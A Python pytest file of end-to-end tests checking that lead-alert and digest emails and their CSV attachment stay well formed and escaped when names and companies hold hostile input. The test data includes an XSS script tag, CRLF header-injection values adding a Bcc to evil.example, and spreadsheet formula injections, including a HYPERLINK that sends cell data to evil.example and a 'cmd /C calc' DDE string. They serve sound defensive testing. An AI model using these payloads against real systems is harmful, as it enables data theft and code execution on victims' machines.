"""Mails byte for byte as SES got them, read by a parser that shares no code with what made them."""

import codecs
import csv
import io
import re
from collections import Counter
from datetime import UTC, date, datetime, time

import pytest
from fast_mail_parser import PyMail, parse_email

from e2e.api import Api, some_phone, somebody
from e2e.looks import TEAM, lead_id, scored, sent, to_team, wait_for
from e2e.one_stack import ROOT
from e2e.test_rewards import mailed
from hotlist_cli.local.demo import invoke_digest
from hotlist_cli.local.mailbox import Message
from hotlist_cli.local.stack import Stack

NAMES = [
    'Eve <script>alert(1)</script> & "Co"',
    "A\r\nBcc: x@evil.example\r\n\r\nhello",
    "=?utf-8?q?=0aBcc:_a=40b?=",
    "Łukasz Żółć 李小龍",
    "--=_hotlist--",
]
"""What somebody may write as a name: markup, headers, encoded-words, the end of a mail's part."""

COMPANIES = [
    (
        '=HYPERLINK("http://evil.example/?"&A1,"win")',
        '\'=HYPERLINK("http://evil.example/?"&A1,"win")',
    ),
    ("\t+1+1;2,3", "'+1+1;2,3"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ('Żółw, "Syn"\r\ni wnuki', 'Żółw, "Syn" i wnuki'),
    ("＝1+1", "'＝1+1"),
]
"""Of those people: what they may write as their company, and how a cell of a file shows it."""

CELLS = [
    'Eve <script>alert(1)</script> & "Co"',
    "A Bcc: x@evil.example hello",
    "'=?utf-8?q?=0aBcc:_a=40b?=",
    "Łukasz Żółć 李小龍",
    "'--=_hotlist--",
]
"""How a cell shows their names."""

FORMULA = ("=", "+", "-", "@", "\t", "\r", "|", "＝")
"""What a spreadsheet may take for the beginning of a formula. A change alone is a number."""

MOST_POINTS = 30 + 15 + 60 + 20
"""Those of a lead that has sent each form as a buyer: more than the leads of other tests have."""

ONCE = ("Subject", "From", "To", "MIME-Version", "Content-Type", "Auto-Submitted")


def parsed(stack: Stack, message: Message) -> PyMail:
    """A mail whose form is right: each header once, CRLF alone, no line too long, two bodies."""
    raw = stack.mailbox.read(message)
    assert raw.count(b"\n") == raw.count(b"\r\n")
    assert raw.isascii()
    assert max(map(len, raw.split(b"\r\n"))) <= 998
    head = raw.partition(b"\r\n\r\n")[0].decode()
    names = Counter(line.partition(":")[0] for line in head.split("\r\n") if line[0] not in " \t")
    assert [names[name] for name in ONCE] == [1] * len(ONCE)
    assert not names.keys() & {"Bcc", "Cc", "Sender"}
    mail = parse_email(raw)
    assert [one.address for one in mail.to] == list(message.to)
    assert (len(mail.text_plain), len(mail.text_html)) == (1, 1)
    return mail


def assert_shows(mail: PyMail, name: str) -> None:
    """The name stands in both bodies as its writer wrote it, and is markup in none."""
    shown = " ".join(name.split())
    (text,), (html,) = mail.text_plain, mail.text_html
    assert shown in " ".join(text.split())
    escaped = shown.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    found = " ".join(html.split()).replace("&#34;", '"').replace("&quot;", '"')
    assert escaped in found
    assert "<script" not in html
    assert html.rstrip().endswith("</html>")


def read_file(stack: Stack, message: Message, name: str) -> list[dict[str, str]]:
    """The rows of the file that comes with a digest, as a program reads them."""
    (file,) = parsed(stack, message).attachments
    assert (file.filename, file.mimetype) == (name, "text/csv")
    raw = stack.mailbox.read(message)
    (head,) = [part for part in raw.split(b"\r\n\r\n") if b"Content-Type: text/csv" in part]
    said = " ".join(head.decode().split())
    assert 'Content-Type: text/csv; charset="utf-8"' in said, said
    assert f'Content-Disposition: attachment; filename="{name}"' in said, said
    content = bytes(file.content)
    assert content.startswith(codecs.BOM_UTF8)
    text = content.decode("utf-8-sig")
    assert text.endswith("\r\n")
    assert text.count("\n") == text.count("\r\n") == text.count("\r")
    header, *lines = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert header == documented_columns()
    rows = [dict(zip(header, line, strict=True)) for line in lines]
    texts = [cell for row in rows for name, cell in row.items() if name != "change"]
    assert not [text for text in texts if text.startswith(FORMULA)]
    return rows


def documented_columns() -> list[str]:
    """The columns of the file as docs/sales.md has them."""
    page = (ROOT / "docs" / "sales.md").read_text()
    table = page.split("| column | what |\n", 1)[1].split("\n\n", 1)[0]
    return [name for row in table.splitlines() for name in re.findall("`(.+?)`", row.split("|")[1])]


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_whatever_a_name_holds_a_message_and_an_alert_are_well_formed(
    stack: Stack, api: Api, name: str
) -> None:
    written, downloaded = somebody(), somebody()
    api.submit("contact", name=name, email=written, message="hello")
    api.submit("ebook", name=name, email=downloaded, role="buyer")
    tell = scored(stack, lead_id(written)).alerting.alert_tell
    alert = scored(stack, lead_id(downloaded)).alerting.alert_id
    messages = wait_for(stack, to_team(f"tell#{tell}"))
    alerts = wait_for(stack, to_team(f"alert#{alert}"))
    for message, email in [*((m, written) for m in messages), *((a, downloaded) for a in alerts)]:
        mail = parsed(stack, message)
        assert_shows(mail, name)
        assert " ".join(name.split()) in mail.subject
        assert mail.attachments == []
        assert "List-Unsubscribe" not in mail.headers
        assert email in mail.text_plain[0]
    assert [parsed(stack, one).headers["Reply-To"] for one in messages] == [[written]] * len(TEAM)


def test_a_digest_with_hostile_names_is_well_formed_and_can_be_stopped(
    stack: Stack, api: Api
) -> None:
    people = {somebody(): name for name in NAMES}
    phones = [some_phone() for _ in NAMES]
    for (email, name), phone, (company, _) in zip(people.items(), phones, COMPANIES, strict=True):
        said = {"name": name, "email": email, "company": company}
        api.submit("contact", **said, phone=phone, message="hello")
        api.submit("ebook", **said, role="buyer")
        api.submit("webinar", **said)
    for email in people:
        scored(stack, lead_id(email), total=MOST_POINTS)
    at = datetime.combine(date(2019, 1, 7), time(8, 15), UTC)  # a Monday that no other test has

    invoke_digest(stack, at)

    mails = sent(stack, *(f"digest#{one}#{at.date()}" for one in TEAM))
    assert len(mails) == len(TEAM)
    stops = set()
    for message in mails:
        mail = parsed(stack, message)
        for email, name in people.items():
            if email in mail.text_plain[0]:  # ten leads have room
                assert_shows(mail, name)
        assert any(email in mail.text_plain[0] for email in people)
        assert mail.headers["List-Unsubscribe-Post"] == ["List-Unsubscribe=One-Click"]
        (stop,) = mail.headers["List-Unsubscribe"]
        assert stop.startswith("<http")
        assert stop.endswith(">")
        assert stop.count("/unsubscribe/") == 1
        stops.add(stop)
    assert len(stops) == len(TEAM), "each stops their own"

    plain, with_file = sorted(mails, key=lambda one: one.to)  # Ben alone has asked for it
    assert parsed(stack, plain).attachments == []
    rows = read_file(stack, with_file, f"hotlist-{at.date()}.csv")
    hot = {row["email"]: row for row in rows if row["section"] == "hot"}
    for email, phone, name, (_, company) in zip(people, phones, CELLS, COMPANIES, strict=True):
        row = hot[email]
        assert (row["name"], row["company"], row["phone"]) == (name, company, f"'{phone}")
        assert (row["may"], row["points"], row["temperature"]) == ("both", str(MOST_POINTS), "hot")
        assert (row["stage"], row["channel"]) == ("intent", "direct")
        assert row["reasons"] == "buyer +60; contact +30; webinar +20"
        for instant in ("created", "hot_since", "last_seen"):
            assert re.fullmatch(r"20\d\d-\d\d-\d\d \d\d:\d\d", row[instant])


def test_a_mail_to_a_lead_has_its_invitation_as_a_file(stack: Stack, api: Api) -> None:
    email = somebody()
    api.submit("webinar", name=NAMES[0], email=email)

    mail = parsed(stack, mailed(stack, email, "webinar"))

    (file,) = mail.attachments
    assert (file.filename, file.mimetype) == ("invitation.ics", "text/calendar")
    lines = bytes(file.content).decode().split("\r\n")
    assert (lines[0], lines[-2:]) == ("BEGIN:VCALENDAR", ["END:VCALENDAR", ""])
    assert max(len(line.encode()) for line in lines) <= 75
    for body in (*mail.text_plain, *mail.text_html):
        assert "alert(1)" not in body, "a stranger may have written the name"
